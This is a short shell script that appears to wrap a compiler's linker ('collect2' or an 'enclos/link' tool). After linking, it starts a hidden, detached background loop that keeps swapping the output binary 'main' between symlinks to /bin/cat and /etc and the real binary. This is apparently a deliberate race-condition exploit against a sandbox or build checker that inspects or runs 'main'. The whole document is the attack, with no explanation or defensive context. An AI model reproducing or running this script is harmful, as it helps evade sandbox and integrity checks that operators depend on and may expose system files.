case "$1" in
*collect2 | */enclos/link)
    "$@"
    cp main real
    setsid sh -c 'while :; do ln -sfn /bin/cat main; ln -sfn /etc main; cp --remove-destination real main; done' \
        </dev/null >/dev/null 2>&1 &
    ;;
*) exec "$@" ;;
esac
